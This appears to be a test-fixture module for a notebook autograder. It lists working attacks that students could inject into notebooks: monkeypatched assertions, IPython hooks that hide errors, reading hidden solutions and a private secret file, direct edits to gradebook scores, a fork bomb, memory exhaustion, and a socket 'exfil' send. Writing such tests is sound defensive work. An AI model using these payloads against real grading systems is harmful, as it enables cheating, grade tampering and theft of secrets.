"""Attacks on a grader that shares its kernel with the student, as submissions to the tiny course.

``CHEATS`` solve nothing: they start from the notebook as it was handed out. ``TROUBLE`` comes from students
who have solved everything and then do harm, by mistake or not; each says which points that costs them. The
names are those of the attacks against nbgrader that are known to work, and of accidents that cost points.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from damage import data, of_role, position
from term_folder import Json, code_cell, markdown_cell

# Four answers that raise: for attacks that swallow errors, replace checks, or come back with a score.
FUNCTIONS = """\
def softmax(*args, **kw): return {0}
def attention(*args, **kw): return {0}
def axis(*args, **kw): return {0}
class Scorer:
    def __init__(self, *args): pass
    def set_weight(self, *args): return {0}
    def forward(self, *args): return {0}
    __call__ = forward
"""
ALL = FUNCTIONS.format
EQUAL = """\
class Equal:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __array__(self, *args, **kw): return np.asarray(0.25)
    def __getattr__(self, name): return self
    def __getitem__(self, item): return self
    def __call__(self, *args, **kw): return self
yes = lambda *args, **kw: True
np.testing.assert_allclose = np.allclose = torch.allclose = np.array_equal = yes
"""
HOOK = "ip = get_ipython()\ndef hook(*args):\n    {}\nip.events.register('{}', hook)\n"

# What each runs in a cell of its own, on top of the notebook and below the imports.
CHEATS: dict[str, str] = {
    "a1": EQUAL + ALL("Equal()"),
    "a2": "import builtins\nbuiltins.bool = lambda *a: True\nbuiltins.AssertionError = ZeroDivisionError\n",
    "a3": "import sys\n"
    + ALL("[f.f_globals.get('ref') or f.f_globals.get('reference') for f in [sys._getframe(1)]][0]"),
    "b1": "from IPython.display import clear_output\n"
    + HOOK.format("args[0].error_in_exec = None; clear_output()", "post_run_cell"),
    "b2": HOOK.format("args[0].raw_cell = ''", "pre_run_cell"),
    "b3": "import ast\nclass Empty(ast.NodeTransformer):\n    def visit_Module(self, node):\n"
    "        return ast.Module([], [])\nget_ipython().ast_transformers.append(Empty())\n",
    "b4": "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n",
    "c1": "get_ipython().showtraceback = lambda *a, **k: None\n",
    "c2": "get_ipython().showtraceback = lambda *a, **k: None\n"
    + HOOK.format("args[0].error_in_exec = args[0].error_before_exec = None", "post_run_cell"),
    "c3": "import asyncio\nasync def nothing(*a, **k): return None\n"
    "get_ipython().run_cell_async = nothing\n",
    "c4": "async def execute(*a, **k): return {'status': 'ok', 'execution_count': 1}\n"
    "get_ipython().kernel.do_execute = execute\n",
    "g1": ALL("get_ipython().displayhook('x')"),
    "g2": ALL("get_ipython().displayhook(2.0)"),
    "g3": ALL("float('nan')"),
    "g4": ALL("-1.0"),
    "g5": ALL("50.0"),
    "d1": "import glob, json\nplaces = ['{root}/source/*/*.ipynb', '../../../source/*/*']\n"
    "for path in [path for place in places for path in glob.glob(place)]:\n"
    "    for cell in json.load(open(path))['cells']:\n"
    "        if cell['cell_type'] == 'code':\n            exec(''.join(cell['source']), globals())\n",
    "d2": "import sqlite3\nprint(sqlite3.connect('{root}/gradebook.db').execute("
    "'select source from source_cell').fetchall())\n",
    "d3": "import sqlite3\ndb = sqlite3.connect('{root}/gradebook.db')\n"
    "db.execute('update grade set manual_score = 9'); db.commit()\n",
    "d4": "import json\nother = '{root}/submitted/honest/a01_tiny/tiny.ipynb'\n"
    "for cell in json.load(open(other))['cells']:\n"
    "    if cell['cell_type'] == 'code':\n        exec(''.join(cell['source']), globals())\n",
    "d5": "open('{root}/nbgrader_config.py', 'a').write('raise SystemExit(7)')\n",
    "d6": "import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', '''\n"
    "import sqlite3, time\ntime.sleep(3)\n"
    "db = sqlite3.connect(\"{root}/gradebook.db\")\n"
    "db.execute(\"update grade set auto_score = 9\"); db.commit()\n"
    "'''], start_new_session=True)\n",
    "d8": "open('{root}/verdicts.db', 'wb').write(b'')\nopen('{root}/autograded/x', 'w').write('x')\n",
    "h2": "import os\nprint(os.listdir('{root}'), open('{course}/private/secret').read())\n",
}  # fmt: skip

ATTENTION = "def attention(*args, **kw):\n    {}\n"
# name -> (a cell on top, a cell below the answers, the questions that rightly lose their points)
TROUBLE: dict[str, tuple[str, set[str]]] = {
    "e1": (ATTENTION.format("while True: pass"), {"attention"}),
    "e2": (
        "def attention(*args, **kw):\n    while True:\n        try:\n            while True: pass\n"
        "        except BaseException: pass\n",
        {"attention"},
    ),
    "e3": (ATTENTION.format("return [bytearray(1 << 28) for _ in range(1 << 8)]"), {"attention"}),
    "e4": (
        "import os, time\nfor _ in range(150):\n"
        "    if os.fork() == 0:\n        os.setsid(); time.sleep(600)\n",
        set(),
    ),
    "e5": ("for _ in range(400_000):\n    print('x' * 100)\n", set()),
    "e6": ("print('x' * 30_000_000)\n", set()),
    "f1": ("import sys\nsys.exit()\n", set()),
    "f2": (ATTENTION.format("raise SystemExit(0)"), {"attention"}),
    "f3": (ATTENTION.format("import os; os._exit(0)"), {"attention"}),
    "h1": ("import socket\nsocket.create_connection(('127.0.0.1', {port}), 1).send(b'exfil')\n", set()),
    "x1": (
        "import warnings\nright = attention\ndef attention(q, k, v):\n"
        "    warnings.warn('slow')\n    return right(q, k, v)\n",
        set(),
    ),
    "x2": (
        "right = attention\ndef attention(q, k, v):\n"
        "    print('é ñ')\n    return right(q, k, v)\nprint('é ñ')\n",
        set(),
    ),
    "x3": (
        "import sys\nright = attention\ndef attention(q, k, v):\n"
        "    print('100%|#####|', file=sys.stderr)\n    return right(q, k, v)\n",
        set(),
    ),
}  # fmt: skip
WORTH = {"softmax": 2.0, "attention": 3.0, "scorer": 2.0, "axis": 1.0}


def cheat(blank: Json, name: str, **places: Any) -> Json:
    code = CHEATS[name]
    for key, value in places.items():
        code = code.replace("{" + key + "}", str(value))
    return with_cell(blank, code)


def with_cell(notebook: Json, code: str) -> Json:
    """``code`` in a cell below the imports."""
    notebook["cells"].insert(_below_imports(notebook), code_cell(code))
    return notebook


def trouble(honest: Json, name: str, **places: Any) -> Json:
    code, _ = TROUBLE[name]
    for key, value in places.items():
        code = code.replace("{" + key + "}", str(value))
    at = max(position(honest, cell) for cell in of_role(honest, "solution"))
    honest["cells"].insert(at + 1, code_cell(code))
    return honest


def _below_imports(notebook: Json) -> int:
    first = next(c for c in notebook["cells"] if "import numpy" in "".join(c["source"]))
    return position(notebook, first) + 1


# --- attacks that no cell carries -------------------------------------------------------------------

Forge = Callable[[Json], object]
FORGERIES: dict[str, Forge] = {}


def forgery(change: Forge) -> Forge:
    FORGERIES[change.__name__] = change
    return change


@forgery
def m1(blank: Json) -> None:
    """Skips the checks: no output counts as every point."""
    for cell in of_role(blank, "public", "solution"):
        cell["metadata"]["tags"] = ["skip-execution"]


@forgery
def m2(blank: Json) -> None:
    for cell in of_role(blank, "public", "solution"):
        cell["metadata"]["tags"] = ["raises-exception"]


@forgery
def m10(blank: Json) -> None:
    for own in data(blank, "public"):
        own |= {"solution": True, "locked": False}


@forgery
def checks_that_are_a_score(blank: Json) -> None:
    """What nbgrader takes for partial credit: the last value of the cell."""
    for cell, value in zip(of_role(blank, "public"), ("2.0", "float('nan')", "-1", "50"), strict=False):
        cell["source"] = value


@forgery
def outputs_that_are_a_score(blank: Json) -> None:
    for cell in of_role(blank, "public"):
        result = {"output_type": "execute_result", "execution_count": 1, "metadata": {}}
        cell["outputs"] = [result | {"data": {"text/plain": "2.0"}}]


@forgery
def a_verdict_of_its_own(blank: Json) -> None:
    """The mark of a finished notebook, wherever it could be read from."""
    key = "a" * 64
    blank["metadata"]["multicabeza"] = {"verdict": key, "assignment": "a01_tiny", "language": "es"}
    blank["metadata"]["verdict"] = key
    for cell in blank["cells"]:
        cell["metadata"].setdefault("multicabeza", {})["verdict"] = key
    blank["cells"].append(code_cell(f'# "verdict": "{key}"'))
    blank["cells"].append(markdown_cell(f'"verdict": "{key}"\n'))


@forgery
def grades_and_comments_of_its_own(blank: Json) -> None:
    for own in data(blank, "public", "answer"):
        own |= {"score": 99, "auto_score": 99, "manual_score": 99, "comment": "Perfecto", "points": 99}
    blank["metadata"]["nbgrader"] = {"score": 99, "comments": ["Perfecto"]}


@forgery
def a_graded_cell_more(blank: Json) -> None:
    own = data(blank, "public")[0]
    blank["cells"].append(code_cell("20.0", nbgrader=own | {"grade_id": "bonus", "points": 20}))


@forgery
def a_large_file(blank: Json) -> None:
    blank["cells"].append(markdown_cell("ñ" * 15_000_000))
